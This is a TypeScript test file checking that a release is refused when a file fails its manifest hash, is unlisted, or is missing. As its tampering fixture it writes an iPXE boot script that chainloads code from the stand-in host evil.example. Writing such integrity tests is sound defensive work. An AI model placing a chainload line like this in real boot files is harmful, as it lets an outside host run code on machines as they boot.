import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { ReleaseError, loadReleaseDirectory, releaseFromFiles } from "../../../runtime/release/release.js";
import { compileToDirectory } from "../../helpers/compile-site.js";
import { sampleSite } from "../../helpers/paths.js";

describe("a release is whole or refused", () => {
  it("a file that does not match its manifest hash, a file the manifest does not list, a listed file missing", async () => {
    const { files } = await loadReleaseDirectory((await compileToDirectory(sampleSite)).out);
    const edited = new Map(files);
    edited.set("pxe/boot.ipxe", Buffer.from("#!ipxe\nchain http://evil.example/\n"));
    assert.throws(() => releaseFromFiles(edited, "t"), (e: Error) => e instanceof ReleaseError && /pxe\/boot\.ipxe does not match its hash/.test(e.message));
    const added = new Map(files).set("pxe/extra.ipxe", Buffer.from("x"));
    assert.throws(() => releaseFromFiles(added, "t"), /pxe\/extra\.ipxe is not in the manifest/);
    const removed = new Map(files);
    removed.delete("pxe/boot.ipxe");
    assert.throws(() => releaseFromFiles(removed, "t"), /pxe\/boot\.ipxe is missing/);
    assert.equal(releaseFromFiles(files, "t").id, "t");
  });
});
